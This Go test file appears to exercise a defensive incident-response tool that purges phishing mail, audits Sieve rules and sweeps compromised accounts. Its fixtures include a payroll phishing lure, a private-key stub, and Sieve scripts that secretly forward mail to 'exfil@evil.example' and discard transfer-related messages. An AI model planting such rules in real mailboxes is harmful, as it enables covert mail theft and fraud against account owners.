package mailbox_test

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-imap/v2"
	"github.com/emersion/go-imap/v2/imapclient"

	"vigie.dev/vigie/internal/app"
	"vigie.dev/vigie/internal/config"
	"vigie.dev/vigie/internal/ir/incident"
	"vigie.dev/vigie/internal/mailbox"
	"vigie.dev/vigie/internal/mailbox/imapbox"
	"vigie.dev/vigie/internal/mailbox/mailboxtest"
	"vigie.dev/vigie/internal/mailbox/managesieve"
	"vigie.dev/vigie/internal/postfixtest"
	"vigie.dev/vigie/internal/store"
)

const domain = "chu-exemple.test"

func addr(u string) string { return u + "@" + domain }

func plain(id, from, to, subject, body string, at time.Time) []byte {
	return []byte(fmt.Sprintf("From: %s\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: %s\r\nDate: %s\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n%s\r\n",
		from, to, subject, id, at.UTC().Format(time.RFC1123Z), body))
}

type env struct {
	d    *mailboxtest.Dovecot
	smtp string
	svc  *incident.Service
	db   *store.DB
	conn *imapbox.Connector
}

func setup(t *testing.T, users ...string) *env {
	t.Helper()
	postfixtest.Require(t)
	e := &env{d: mailboxtest.Start(t, users...)}
	e.smtp = e.d.Postfix(t, domain)
	cfg := config.Default()
	cfg.DataDir = t.TempDir()
	cfg.Org.Domains = []string{domain}
	var err error
	if e.db, err = store.Open(context.Background(), "sqlite:"+filepath.Join(cfg.DataDir, "vigie.db"), nil); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.db.Close() })
	if e.svc, err = app.With(cfg, e.db, app.Options{}).Incidents(nil); err != nil {
		t.Fatal(err)
	}
	if e.conn, err = imapbox.New(imapbox.Config{Addr: e.d.IMAPAddr(), TLS: "none", Admin: mailboxtest.Admin,
		Password: mailboxtest.AdminPass, SieveAddr: e.d.SieveAddr(), Timeout: 20 * time.Second}); err != nil {
		t.Fatal(err)
	}
	return e
}

func (e *env) remediator() *mailbox.Remediator {
	return &mailbox.Remediator{Connector: e.conn, Journal: e.svc, Ledger: e.db.MailboxLedger()}
}

func (e *env) open(t *testing.T, typ incident.Type) int64 {
	inc, err := e.svc.Open(context.Background(), incident.OpenRequest{Type: typ, Title: "test", By: "rssi"})
	if err != nil {
		t.Fatal(err)
	}
	return inc.ID
}

func (e *env) journalText(t *testing.T, id int64) string {
	c, err := e.svc.Load(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, j := range c.Journal {
		b.WriteString(j.Text + "\n")
	}
	return b.String()
}

// appendAs stores a message in a user's folder as their mail client does
// (Sent copies, drafts), with the given internal date.
func (e *env) appendAs(t *testing.T, user, folder string, raw []byte, at time.Time) {
	t.Helper()
	c, err := imapclient.DialInsecure(e.d.IMAPAddr(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.Login(user, mailboxtest.UserPass).Wait(); err != nil {
		t.Fatal(err)
	}
	cmd := c.Append(folder, int64(len(raw)), &imap.AppendOptions{Time: at, Flags: []imap.Flag{imap.FlagSeen}})
	cmd.Write(raw)
	cmd.Close()
	if _, err := cmd.Wait(); err != nil {
		t.Fatal(err)
	}
}

// moveAs moves a user's messages matching a Message-ID, as the user would.
func (e *env) moveAs(t *testing.T, user, id, from, to string) {
	t.Helper()
	c, err := imapclient.DialInsecure(e.d.IMAPAddr(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.Login(user, mailboxtest.UserPass).Wait(); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Select(from, nil).Wait(); err != nil {
		t.Fatal(err)
	}
	d, err := c.UIDSearch(&imap.SearchCriteria{Header: []imap.SearchCriteriaHeaderField{{Key: "Message-ID", Value: id}}}, nil).Wait()
	if err != nil || len(d.AllUIDs()) == 0 {
		t.Fatalf("moveAs %s %s: %v", user, id, err)
	}
	if _, err := c.Move(imap.UIDSetNum(d.AllUIDs()...), to).Wait(); err != nil {
		t.Fatal(err)
	}
}

func diff(before, after map[string][]string) []string {
	var out []string
	for _, k := range slices.Sorted(maps.Keys(merge(before, after))) {
		if !slices.Equal(before[k], after[k]) {
			out = append(out, fmt.Sprintf("%s: %d → %d", k, len(before[k]), len(after[k])))
		}
	}
	return out
}

func merge(a, b map[string][]string) map[string][]string {
	m := maps.Clone(a)
	maps.Copy(m, b)
	return m
}

// Purge and restore of a campaign delivered by Postfix to five
// mailboxes: one copy already moved by an earlier run, one found by
// content (another Message-ID, same template), one mailbox removed before
// the run, the reporting mailbox protected. Every other message and
// folder is left as it was, and the journal says what was and was not
// done.
func TestPurgeAndRestore(t *testing.T) {
	users := []string{addr("alice"), addr("bob"), addr("carol"), addr("dave"), addr("abuse")}
	e := setup(t, users...)
	ctx := context.Background()
	now := time.Now().UTC()
	camp := plain("<camp-2026@evil.example>", "Service Paie <paie@evil.example>", "undisclosed-recipients:;", "Votre bulletin de salaire",
		"Consultez votre bulletin : http://paie-chu.evil.example/login?u=1", now)
	e.d.DeliverVia(t, e.smtp, "paie@evil.example", users, "<camp-2026@evil.example>", camp)
	variant := plain("<camp-2026-b@evil.example>", "Service Paie <paie@evil.example>", addr("carol"), "Votre bulletin de salaire",
		"Consultez votre bulletin : http://paie-chu.evil.example/login?u=2", now)
	e.d.DeliverVia(t, e.smtp, "paie@evil.example", []string{addr("carol")}, "<camp-2026-b@evil.example>", variant)
	for i, u := range users {
		id := fmt.Sprintf("<ok-%d@partenaire.test>", i)
		e.d.DeliverVia(t, e.smtp, "x@partenaire.test", []string{u}, id, plain(id, "x@partenaire.test", u, "Réunion", "À jeudi.", now))
	}
	// Bob already filed the campaign in Junk himself.
	e.moveAs(t, addr("bob"), "camp-2026@evil.example", "INBOX", "Junk")

	id := e.open(t, incident.PhishingCampaign)
	inds := []incident.Indicator{
		{Kind: incident.KindEmail, Value: "paie@evil.example", Mode: "block", State: incident.Pushed},
		{Kind: incident.KindURL, Value: "http://paie-chu.evil.example/login?u=1", Mode: "block"},
		{Kind: incident.KindHost, Value: "paie-chu.evil.example", Mode: "block"},
		{Kind: incident.KindDomain, Value: "evil.example", Suggested: "watch"},
	}
	recs := []incident.TraceRecord{
		{Time: now, MessageID: "camp-2026@evil.example", From: "Service Paie <paie@evil.example>", Recipients: users,
			Action: "delivered", Matched: []string{"sender paie@evil.example", "domain evil.example"}},
		// The variant's trace lost its Message-ID: found by content.
		{Time: now, From: "paie@evil.example", Recipients: []string{addr("carol")}, Action: "delivered",
			Matched: []string{"host paie-chu.evil.example"}},
		{Time: now, MessageID: "held@evil.example", Recipients: []string{addr("alice")}, Action: "quarantined",
			Matched: []string{"sender paie@evil.example"}},
		{Time: now, MessageID: "watch-only@evil.example", Recipients: []string{addr("alice")}, Action: "delivered",
			Matched: []string{"domain evil.example"}},
	}
	targets, skipped := mailbox.Plan(recs, inds, mailbox.PlanOptions{OwnDomains: []string{domain}, Protected: []string{addr("abuse")}})
	if len(targets) != 5 || len(skipped) != 2 {
		t.Fatalf("plan: %d targets %+v, %d skipped %+v", len(targets), targets, len(skipped), skipped)
	}

	snap := map[string]map[string][]string{}
	for _, u := range users {
		snap[u] = e.d.Snapshot(t, u)
	}
	r := e.remediator()
	dry := r.Purge(ctx, mailbox.PurgeRequest{Incident: id, Targets: targets, Verify: mailbox.ContentVerifier(inds), DryRun: true, By: "rssi"})
	if dry.Moved != 5 || dry.Already != 0 || dry.Failed != 0 {
		t.Errorf("dry run: %+v", dry)
	}
	for _, u := range users {
		if d := diff(snap[u], e.d.Snapshot(t, u)); len(d) != 0 {
			t.Errorf("dry run touched %s: %v", u, d)
		}
	}
	// Dave's mailbox is removed while the run is on alice's (one mailbox at
	// a time, in order): it is gone when the run reaches it.
	r.Concurrency = 1
	r.Connector = racing{Connector: e.conn, before: func(user string) {
		if user != addr("alice") {
			return
		}
		e.d.SetUsers(t, addr("alice"), addr("bob"), addr("carol"), addr("abuse"))
		// Dovecot rereads its users file at most once a second: wait until
		// it has seen the change.
		for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(100 * time.Millisecond) {
			s, err := e.conn.Open(ctx, addr("dave"))
			if errors.Is(err, mailbox.ErrNoMailbox) {
				return
			}
			if s != nil {
				s.Close()
			}
			if time.Now().After(deadline) {
				t.Errorf("dave still logs in: %v", err)
				return
			}
		}
	}}
	rep := r.Purge(ctx, mailbox.PurgeRequest{Incident: id, Targets: targets, Verify: mailbox.ContentVerifier(inds), By: "rssi"})
	r.Connector, r.Concurrency = e.conn, 0
	t.Logf("purge: moved %d, already %d, not found %d, failed %d, %d commands", rep.Moved, rep.Already, rep.NotFound, rep.Failed, rep.Commands)
	if rep.Moved != 4 || rep.Failed != 1 || rep.NotFound != 0 {
		t.Fatalf("purge: %+v", rep)
	}
	q := mailbox.DefaultQuarantine
	// The copy as stored (Postfix and Dovecot added their trace headers).
	sum := e.d.Snapshot(t, addr("alice"))[q][0]
	if !slices.Contains(snap[addr("alice")]["INBOX"], sum) {
		t.Fatalf("alice's quarantined message was not in her INBOX")
	}
	for _, u := range []string{addr("alice"), addr("bob")} {
		after := e.d.Snapshot(t, u)
		from := "INBOX"
		if u == addr("bob") {
			from = "Junk"
		}
		if !slices.Contains(after[q], sum) || slices.Contains(after[from], sum) {
			t.Errorf("%s: campaign not moved from %s: %v", u, from, after)
		}
		if d := diff(snap[u], after); len(d) != 2 {
			t.Errorf("%s: %v changed, want %s and the quarantine only", u, d, from)
		}
	}
	if after := e.d.Snapshot(t, addr("carol")); len(after[q]) != 2 || len(after["INBOX"]) != len(snap[addr("carol")]["INBOX"])-2 {
		t.Errorf("carol: the Message-ID copy and the content-matched variant: %v", after)
	}
	if d := diff(snap[addr("abuse")], e.d.Snapshot(t, addr("abuse"))); len(d) != 0 {
		t.Errorf("protected mailbox touched: %v", d)
	}
	j := e.journalText(t, id)
	for _, want := range []string{"boîte " + addr("alice") + " — 1 copie(s) déplacée(s)", "sha256 " + sum,
		"boîte " + addr("dave") + " NON TRAITÉE", "boîte inexistante", "trouvé par content: "} {
		if !strings.Contains(j, want) {
			t.Errorf("journal lacks %q:\n%s", want, j)
		}
	}
	// Bob's message is already moved: a second run says so.
	again := r.Purge(ctx, mailbox.PurgeRequest{Incident: id, Targets: targets[:2], By: "rssi"})
	if again.Already != 2 || again.Moved != 0 {
		t.Errorf("second run: %+v", again)
	}

	rest, err := r.Restore(ctx, mailbox.RestoreRequest{Incident: id, By: "rssi"})
	if err != nil {
		t.Fatal(err)
	}
	if rest.Moved != 4 || rest.Failed != 0 {
		t.Errorf("restore: %+v", rest)
	}
	for _, u := range []string{addr("alice"), addr("bob"), addr("carol"), addr("abuse")} {
		after := e.d.Snapshot(t, u)
		delete(after, q)
		if d := diff(snap[u], after); len(d) != 0 {
			t.Errorf("%s not restored: %v", u, d)
		}
	}
	if rest2, _ := r.Restore(ctx, mailbox.RestoreRequest{Incident: id, By: "rssi"}); rest2.Moved != 0 || len(rest2.Mailboxes) != 0 {
		t.Errorf("second restore: %+v", rest2)
	}
}

// A dead server and a wrong administrator password: every mailbox is
// reported with its reason, the run ends, the journal says so.
func TestPurgeServerErrors(t *testing.T) {
	e := setup(t, addr("alice"))
	ctx := context.Background()
	id := e.open(t, incident.PhishingCampaign)
	targets := []mailbox.Target{{Mailbox: addr("alice"), MessageID: "x@evil.example"}, {Mailbox: addr("bob"), MessageID: "x@evil.example"}}
	bad, _ := imapbox.New(imapbox.Config{Addr: e.d.IMAPAddr(), TLS: "none", Admin: mailboxtest.Admin, Password: "faux"})
	dead, _ := imapbox.New(imapbox.Config{Addr: fmt.Sprintf("127.0.0.1:%d", postfixtest.FreePort(t)), TLS: "none", Admin: "a", Password: "b"})
	for name, c := range map[string]mailbox.Connector{"identifiants d'administration refusés": bad, "serveur injoignable": dead} {
		r := &mailbox.Remediator{Connector: c, Journal: e.svc, Ledger: e.db.MailboxLedger()}
		rep := r.Purge(ctx, mailbox.PurgeRequest{Incident: id, Targets: targets, By: "rssi"})
		if rep.Failed != 2 || rep.Moved != 0 {
			t.Errorf("%s: %+v", name, rep)
		}
		if j := e.journalText(t, id); strings.Count(j, name) != 2 {
			t.Errorf("journal does not say %q twice:\n%s", name, j)
		}
	}
	rows, _ := e.db.MailboxLedger().Actions(ctx, id, mailbox.KindPurge, mailbox.StatusFailed)
	if len(rows) != 4 {
		t.Errorf("%d failed rows in the ledger", len(rows))
	}
}

// The audit finds the redirect and the discard an attacker planted over
// ManageSieve, --fix disables them (the original script kept), and no
// message is touched.
func TestAuditAndFix(t *testing.T) {
	e := setup(t, addr("alice"), addr("bob"))
	ctx := context.Background()
	ms, err := managesieve.Dial(ctx, e.d.SieveAddr(), managesieve.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := ms.AuthenticatePlain("", addr("alice"), mailboxtest.UserPass); err != nil {
		t.Fatal(err)
	}
	script := "require [\"copy\", \"fileinto\", \"include\"];\r\n# rule:[sync]\r\nredirect :copy \"boite.relais@evil.example\";\r\n" +
		"# rule:[clean]\r\nif header :contains \"subject\" [\"RE: virement\", \"TR: virement\"] { discard; stop; }\r\n" +
		"if header :contains \"list-id\" \"usrp\" { fileinto \"Listes\"; }\r\ninclude :personal \"cache\";\r\n"
	// An inactive script the active one includes: it runs all the same.
	if err := ms.PutScript("cache", "require \"copy\";\r\nredirect :copy \"exfil@evil.example\";\r\n"); err != nil {
		t.Fatal(err)
	}
	if err := ms.PutScript("roundcube", script); err != nil {
		t.Fatal(err)
	}
	ms.SetActive("roundcube")
	ms.Logout()
	now := time.Now()
	e.d.DeliverVia(t, e.smtp, "x@partenaire.test", []string{addr("alice")}, "<a1@partenaire.test>", plain("<a1@partenaire.test>", "x@partenaire.test", addr("alice"), "Bonjour", "x", now))
	snap := e.d.Snapshot(t, addr("alice"))
	files := e.d.Files(t, addr("alice"))

	id := e.open(t, incident.MailboxCompromise)
	r := e.remediator()
	res := r.Audit(ctx, mailbox.AuditRequest{Incident: id, Mailboxes: []string{addr("alice"), addr("bob")}, OwnDomains: []string{domain}, By: "rssi"})
	if len(res) != 2 || res[1].Err != "" || len(res[1].Findings) != 0 {
		t.Fatalf("audit: %+v", res)
	}
	sigs := map[string]string{}
	for _, f := range res[0].Findings {
		sigs[f.Signal] = f.Rule.ID
		t.Logf("%s %s %s", f.Signal, f.Rule.ID, f.FR)
	}
	if sigs[mailbox.SigRuleDelete] != "sieve:roundcube#2" || sigs[mailbox.SigRuleMove] != "sieve:roundcube#3" || len(res[0].Findings) != 4 {
		t.Fatalf("findings %v", res[0].Findings)
	}
	for _, f := range res[0].Findings {
		if f.Signal == mailbox.SigForwardExternal && f.Rule.ID == "sieve:cache#1" && f.Rule.Fixable {
			t.Errorf("a rule of an included script is offered for --fix: %+v", f.Rule)
		}
	}
	fixed := r.Audit(ctx, mailbox.AuditRequest{Incident: id, Mailboxes: []string{addr("alice")}, OwnDomains: []string{domain},
		Fix: []string{"sieve:roundcube#1", "sieve:roundcube#2"}, By: "rssi"})
	if len(fixed[0].Fixed) != 2 {
		t.Fatalf("fix: %+v", fixed)
	}
	after := r.Audit(ctx, mailbox.AuditRequest{Mailboxes: []string{addr("alice")}, OwnDomains: []string{domain}})
	left := map[string]bool{}
	for _, f := range after[0].Findings {
		// The rules now run from Vigie's copy of the script.
		id := regexp.MustCompile(`\.vigie-[0-9T]+#`).ReplaceAllString(f.Rule.ID, "#")
		left[f.Signal+" "+id] = true
	}
	if len(left) != 2 || !left[mailbox.SigRuleMove+" sieve:roundcube#3"] || !left[mailbox.SigForwardExternal+" sieve:cache#1"] {
		t.Errorf("after the fix: %+v", after[0].Findings)
	}
	// The original is still there, inactive.
	ms, _ = managesieve.Dial(ctx, e.d.SieveAddr(), managesieve.Options{})
	ms.AuthenticatePlain(addr("alice"), mailboxtest.Admin, mailboxtest.AdminPass)
	scripts, _ := ms.ListScripts()
	orig, _ := ms.GetScript("roundcube")
	ms.Logout()
	if len(scripts) != 3 || orig != script {
		t.Errorf("scripts after the fix: %+v", scripts)
	}
	if !slices.Equal(files, e.d.Files(t, addr("alice"))) || len(diff(snap, e.d.Snapshot(t, addr("alice")))) != 0 {
		t.Error("the audit touched messages")
	}
	j := e.journalText(t, id)
	if strings.Count(j, "Audit de la boîte "+addr("alice")) != 2 || !strings.Contains(j, "boite.relais@evil.example") {
		t.Errorf("journal:\n%s", j)
	}
}

// The sweep of a compromised account (InterCERT 6.a): a private key in a
// draft, an outbound burst and a mass mailing in Sent, a password-reset
// notice the attacker threw in the Trash, the campaign's message in Junk —
// each found and counted per folder, and not a flag changed.
func TestSweep(t *testing.T) {
	alice := addr("alice")
	e := setup(t, alice)
	ctx := context.Background()
	now := time.Now().UTC()
	t0 := now.Add(-2 * time.Hour)
	// Ordinary sent mail, spread over the afternoon.
	for i := range 4 {
		id := fmt.Sprintf("<sent-%d@chu-exemple.test>", i)
		e.appendAs(t, alice, "Sent", plain(id, alice, "collegue@chu-exemple.test", "Planning", "Voici le planning.", t0), t0.Add(time.Duration(i)*20*time.Minute))
	}
	// The burst: 12 messages in 6 minutes.
	for i := range 12 {
		id := fmt.Sprintf("<burst-%d@chu-exemple.test>", i)
		to := fmt.Sprintf("fournisseur%d@example.org, compta%d@example.net", i, i)
		e.appendAs(t, alice, "Sent", plain(id, alice, to, "Facture en attente", "Merci de régler la facture ci-jointe.", now), now.Add(-30*time.Minute+time.Duration(i)*30*time.Second))
	}
	var many []string
	for i := range 25 {
		many = append(many, fmt.Sprintf("contact%d@example.org", i))
	}
	e.appendAs(t, alice, "Sent", plain("<mass@chu-exemple.test>", alice, strings.Join(many, ", "), "Document partagé", "Voir le document.", now), now.Add(-90*time.Minute))
	e.appendAs(t, alice, "Drafts", plain("<draft-key@chu-exemple.test>", alice, "admin@chu-exemple.test", "accès serveur",
		"Pour le serveur :\r\n-----BEGIN OPENSSH PRIVATE KEY-----\r\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\r\n-----END OPENSSH PRIVATE KEY-----\r\n", now), now.Add(-time.Hour))
	e.appendAs(t, alice, "Drafts", plain("<draft-ok@chu-exemple.test>", alice, "x@chu-exemple.test", "Compte rendu", "Brouillon ordinaire.", now), now.Add(-time.Hour))
	// Delivered by Postfix, then thrown away by the attacker.
	e.d.DeliverVia(t, e.smtp, "no-reply@accounts.example.com", []string{alice}, "<reset-1@accounts.example.com>",
		plain("<reset-1@accounts.example.com>", "no-reply@accounts.example.com", alice, "Votre mot de passe a été modifié", "Si ce n'est pas vous, contactez le support.", now))
	e.moveAs(t, alice, "reset-1@accounts.example.com", "INBOX", "Trash")
	e.d.DeliverVia(t, e.smtp, "paie@evil.example", []string{alice}, "<camp-9@evil.example>",
		plain("<camp-9@evil.example>", "paie@evil.example", alice, "Bulletin", "http://paie-chu.evil.example/x", now))
	e.moveAs(t, alice, "camp-9@evil.example", "INBOX", "Junk")
	e.d.DeliverVia(t, e.smtp, "x@partenaire.test", []string{alice}, "<old@partenaire.test>",
		plain("<old@partenaire.test>", "x@partenaire.test", alice, "Ancien", "ok", now))
	e.moveAs(t, alice, "old@partenaire.test", "INBOX", "Trash")

	files := e.d.Files(t, alice)
	id := e.open(t, incident.MailboxCompromise)
	inds := []incident.Indicator{{Kind: incident.KindHost, Value: "paie-chu.evil.example", Mode: "block"}}
	rep, err := e.remediator().Sweep(ctx, mailbox.SweepRequest{Incident: id, User: alice, Since: now.Add(-24 * time.Hour),
		Indicators: inds, By: "rssi"})
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]map[string]int{}
	for _, f := range rep.Folders {
		count[f.Folder] = f.Signals
		t.Logf("%s (%s): %d messages, %v", f.Folder, f.Role, f.Messages, f.Signals)
	}
	want := map[string]map[string]int{
		"Sent":   {mailbox.SigBurst: 1, mailbox.SigManyRcpts: 1},
		"Drafts": {"SWEEP_SECRET_PRIVATE_KEY": 1},
		"Trash":  {mailbox.SigResetNotice: 1},
		"Junk":   {mailbox.SigIndicator: 1},
	}
	for f, sigs := range want {
		if !maps.Equal(count[f], sigs) {
			t.Errorf("%s: %v, want %v", f, count[f], sigs)
		}
	}
	if len(rep.Items) != 5 || rep.Journal == 0 {
		t.Errorf("%d items, journal entry %d", len(rep.Items), rep.Journal)
	}
	if !slices.Equal(files, e.d.Files(t, alice)) {
		t.Error("the sweep changed messages or flags")
	}
	if j := e.journalText(t, id); !strings.Contains(j, "Examen de la boîte "+alice) || !strings.Contains(j, "Drafts : 2 message(s) — SWEEP_SECRET_PRIVATE_KEY 1") {
		t.Errorf("journal:\n%s", j)
	}
}

// racing moves the copy away, as its user would, just before Vigie moves
// it: the one race a purge cannot prevent.
type racing struct {
	mailbox.Connector
	before func(user string)
}

func (r racing) Open(ctx context.Context, user string) (mailbox.Session, error) {
	s, err := r.Connector.Open(ctx, user)
	if err != nil {
		return nil, err
	}
	return racingSession{Session: s, user: user, before: r.before}, nil
}

type racingSession struct {
	mailbox.Session
	user   string
	before func(string)
}

func (s racingSession) Move(ctx context.Context, refs []mailbox.Ref, dest string) ([]mailbox.Ref, error) {
	s.before(s.user)
	return s.Session.Move(ctx, refs, dest)
}

// A copy the user deletes between Vigie's search and its move is reported
// as not found, in the ledger and the journal; the other mailbox is purged.
func TestPurgeMessageGoneMidRun(t *testing.T) {
	alice, bob := addr("alice"), addr("bob")
	e := setup(t, alice, bob)
	ctx := context.Background()
	e.d.DeliverVia(t, e.smtp, "paie@evil.example", []string{alice, bob}, "<race@evil.example>",
		plain("<race@evil.example>", "paie@evil.example", "x", "Bulletin", "http://paie-chu.evil.example/", time.Now()))
	id := e.open(t, incident.PhishingCampaign)
	r := e.remediator()
	r.Connector = racing{Connector: e.conn, before: func(user string) {
		if user == alice {
			e.moveAs(t, alice, "race@evil.example", "INBOX", "Trash")
		}
	}}
	rep := r.Purge(ctx, mailbox.PurgeRequest{Incident: id, By: "rssi", Targets: []mailbox.Target{
		{Mailbox: alice, MessageID: "race@evil.example"}, {Mailbox: bob, MessageID: "race@evil.example"}}})
	if rep.Moved != 1 || rep.NotFound != 1 || rep.Failed != 0 {
		t.Fatalf("%+v", rep)
	}
	if snap := e.d.Snapshot(t, alice); len(snap["Trash"]) != 1 || len(snap[mailbox.DefaultQuarantine]) != 0 {
		t.Errorf("alice: %v", snap)
	}
	if j := e.journalText(t, id); !strings.Contains(j, "boîte "+alice+" — 0 copie(s) déplacée(s)") || !strings.Contains(j, "<race@evil.example> introuvable") {
		t.Errorf("journal:\n%s", j)
	}
	rows, _ := e.db.MailboxLedger().Actions(ctx, id, mailbox.KindPurge, mailbox.StatusNotFound)
	if len(rows) != 1 || rows[0].Mailbox != alice {
		t.Errorf("ledger: %+v", rows)
	}
}
